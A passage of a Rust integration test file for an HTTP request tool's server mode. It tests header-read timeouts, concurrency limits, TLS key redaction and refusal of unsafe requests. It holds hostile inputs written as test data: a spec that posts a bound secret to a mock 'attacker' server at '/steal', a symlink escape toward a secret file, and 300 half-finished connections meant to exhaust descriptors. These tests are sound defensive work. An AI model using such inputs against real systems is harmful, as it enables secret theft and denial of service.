        *statuses.entry(line.trim().to_owned()).or_insert(0) += 1;
    }
    let mut slowest = Duration::ZERO;
    for _ in 0..10 {
        let (status, took) = timed_request(&address, &eval);
        assert!(status.contains("200"), "{status}");
        slowest = slowest.max(took);
        std::thread::sleep(Duration::from_millis(500));
    }
    let peak = peak_resident(server.child.id());
    let _ = std::io::Write::write_all(
        &mut std::io::stderr(),
        format!(
            "slow readers: {statuses:?}; eval answered within {slowest:?}, the server's peak was {} MiB\n",
            peak >> 20
        )
        .as_bytes(),
    );
    assert!(slowest < Duration::from_secs(2), "eval took {slowest:?}");
    assert!(peak < 1 << 30, "the server held {} MiB", peak >> 20);
    drop(held);
}

#[test]
fn connections_that_never_finish_their_headers_are_closed() {
    use std::io::Write;
    // A server with 256 descriptors, and 300 connections that send half a request.
    let mut child = Command::new("sh")
        .args(["-c", &format!("ulimit -n 256 && exec {} serve --listen 127.0.0.1:0", env!("CARGO_BIN_EXE_courier"))])
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut line = String::new();
    BufReader::new(child.stdout.take().unwrap()).read_line(&mut line).unwrap();
    let server = Server { child, base: line.trim().rsplit(' ').next().unwrap().trim_end_matches('/').to_owned() };
    let address = server.base.trim_start_matches("http://").to_owned();
    let mut partial = Vec::new();
    for _ in 0..300 {
        let mut stream = std::net::TcpStream::connect(&address).unwrap();
        stream.write_all(format!("POST /v1/eval HTTP/1.1\r\nHost: {address}\r\n").as_bytes()).unwrap();
        partial.push(stream);
    }
    // Each has the header-read timeout from when it was accepted: the last are
    // accepted when the first are closed, and then the server answers again.
    let eval = raw_post(&address, "/v1/eval", &json!({ "expression": "1 + 1" }).to_string());
    let (status, took) = timed_request(&address, &eval);
    assert!(status.contains("200"), "{status:?} after {took:?}");
    assert!(took < 2 * courier::serve::HEADER_READ_TIMEOUT + Duration::from_secs(5), "{took:?}");
    drop(partial);
}

#[tokio::test]
async fn a_bound_secret_transformed_in_a_spec_sent_to_the_server_is_refused() {
    let attacker = MockServer::start().await;
    Mock::given(method("POST")).respond_with(ResponseTemplate::new(200)).mount(&attacker).await;
    let env = [("COURIER_SECRET_K", "s3cr3t-value"), ("COURIER_SECRET_K_HOSTS", "api.example.org")];
    let server = start_with_env(&["--allow-send"], Some("private"), &env);
    let spec = format!(
        "method = \"POST\"\nurl = \"{}/steal\"\nbody = \"json\"\npayload = '{{\"k\": ${{stringToUpperCase(secret(\"K\"))}}}}'\n",
        attacker.uri()
    );
    let (status, outcome) = post_json(&server, "/v1/send", json!({ "spec": spec })).await;
    assert_eq!(status, 200, "{outcome}");
    let error = outcome["error"].as_str().unwrap_or_default();
    assert!(error.contains("the secret K to 127.0.0.1: it is bound to api.example.org"), "{outcome}");
    assert!(attacker.received_requests().await.unwrap().is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mapping_large_answers_does_not_stall_other_requests() {
    let body = format!(r#"{{"pad": "{}", "a": 1}}"#, "x".repeat(10_000_000));
    let shop = MockServer::start().await;
    Mock::given(method("GET"))
        .respond_with(ResponseTemplate::new(200).set_body_raw(body, "application/json"))
        .mount(&shop)
        .await;
    let server = start(&["--allow-send"]);
    let mut spec = format!("url = \"{}/x\"\ntimeout = \"6s\"\n", shop.uri());
    for number in 0..5_000 {
        spec.push_str(&format!("[[mappings]]\nsource = \"a\"\ntarget = \"t{number}\"\n"));
    }
    let sends = spawn_sends(&server, &spec, 2);
    tokio::time::sleep(Duration::from_millis(1500)).await;
    let started = Instant::now();
    let (status, answer) = post_json(&server, "/v1/eval", json!({ "expression": "1 + 1" })).await;
    let took = started.elapsed();
    assert_eq!((status, answer["text"].clone()), (200, json!("2")));
    assert!(took < Duration::from_secs(2), "eval waited {took:?} behind two sends' mappings");
    for send in sends {
        assert_eq!(send.await.unwrap(), 200);
    }
}

#[tokio::test]
async fn a_payload_file_linked_out_of_the_files_folder_is_refused_unread() {
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("private.json"), "top-secret-token {").unwrap();
    let folder = tempfile::tempdir().unwrap();
    std::os::unix::fs::symlink(outside.path().join("private.json"), folder.path().join("payload.json")).unwrap();
    let server = start(&["--files", folder.path().to_str().unwrap()]);
    let spec = "method = \"POST\"\nurl = \"https://x.org\"\nbody = \"json\"\npayload_file = \"payload.json\"\n";
    for route in ["/v1/dry-run", "/v1/check"] {
        let (status, answer) = post_json(&server, route, json!({ "spec": spec })).await;
        assert!(status == 422 || status == 200, "{route}: {status} {answer}");
        let text = answer.to_string();
        assert!(text.contains("a link leads out") && !text.contains("top-secret"), "{route}: {text}");
    }
}

/// `count` `/v1/send`s of `spec` started at once; each task gives its status.
fn spawn_sends(server: &Server, spec: &str, count: usize) -> Vec<tokio::task::JoinHandle<u16>> {
    (0..count)
        .map(|_| {
            let request = reqwest::Client::new()
                .post(format!("{}/v1/send", server.base))
                .header("content-type", "application/json")
                .body(json!({ "spec": spec }).to_string());
            tokio::spawn(async move { request.send().await.unwrap().status().as_u16() })
        })
        .collect()
}

#[tokio::test]
async fn slow_sends_do_not_hold_the_other_routes_turns() {
    let slow = MockServer::start().await;
    Mock::given(method("GET"))
        .respond_with(ResponseTemplate::new(200).set_delay(Duration::from_secs(4)))
        .mount(&slow)
        .await;
    let server = start(&["--allow-send"]);
    let spec = format!("url = \"{}/slow\"\n", slow.uri());
    // More sends than there are turns for all requests: each waits on the service.
    let sends = spawn_sends(&server, &spec, courier::serve::MAX_IN_PROGRESS + 8);
    tokio::time::sleep(Duration::from_millis(500)).await;
    let started = Instant::now();
    let (status, _) = post_json(&server, "/v1/eval", json!({ "expression": "1 + 1" })).await;
    assert_eq!(status, 200);
    assert!(started.elapsed() < Duration::from_secs(2), "eval waited {:?} behind sends", started.elapsed());
    for send in sends {
        assert!([200, 503].contains(&send.await.unwrap()));
    }
}

#[tokio::test]
async fn dry_run_shows_the_tls_setup_with_the_key_redacted_and_a_ca_file_needs_files() {
    let mut ca_params = rcgen::CertificateParams::new(Vec::<String>::new()).unwrap();
    ca_params.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
    let ca_key = rcgen::KeyPair::generate().unwrap();
    let ca = ca_params.self_signed(&ca_key).unwrap();
    let client_key = rcgen::KeyPair::generate().unwrap();
    let client = rcgen::CertificateParams::new(vec!["tenant-7".to_owned()]).unwrap().self_signed(&client_key).unwrap();
    let key_pem = client_key.serialize_pem();
    let env = [("COURIER_SECRET_CLIENT_CERT", client.pem()), ("COURIER_SECRET_CLIENT_KEY", key_pem.clone())];
    let env: Vec<(&str, &str)> = env.iter().map(|(name, value)| (*name, value.as_str())).collect();
    let server = start_with_env(&[], Some("private"), &env);
    let spec = format!(
        "url = \"https://shop.example.org/orders\"\n[tls]\nca = '''\n{}'''\nca_only = true\n\
         client_cert = '${{secret(\"CLIENT_CERT\")}}'\nclient_key = '${{secret(\"CLIENT_KEY\")}}'\n",
        ca.pem()
    );
    let (status, answer) = post_json(&server, "/v1/dry-run", json!({ "spec": spec })).await;
    assert_eq!(status, 200, "{answer}");
    assert_eq!(answer["tls"]["ca"], json!("PEM text (1 certificate)"), "{answer}");
    assert_eq!(answer["tls"]["ca_only"], json!("true"));
    assert_eq!(answer["tls"]["client_key"], json!("[redacted]"));
    let body_line = key_pem.lines().nth(1).unwrap();
    assert!(!answer.to_string().contains(body_line), "{answer}");
    // A key secret that is not PEM: the field is named, the value is not shown.
    let bad = start_with_env(
        &[],
        Some("private"),
        &[("COURIER_SECRET_CLIENT_CERT", "x"), ("COURIER_SECRET_CLIENT_KEY", "y-not-a-key")],
    );
    let (status, answer) = post_json(&bad, "/v1/dry-run", json!({ "spec": spec })).await;
    assert_eq!(status, 422, "{answer}");
    assert!(answer.to_string().contains("tls.client_cert") && !answer.to_string().contains("y-not-a-key"), "{answer}");
    // A ca naming a file reads the server's disk: refused without --files.
    let file_spec = "url = \"https://shop.example.org/orders\"\n[tls]\nca = \"ca.pem\"\n";
    let (status, answer) = post_json(&server, "/v1/dry-run", json!({ "spec": file_spec })).await;
    assert_eq!(status, 422, "{answer}");
    assert!(answer["error"].as_str().unwrap().contains("reads the server's disk"), "{answer}");
}
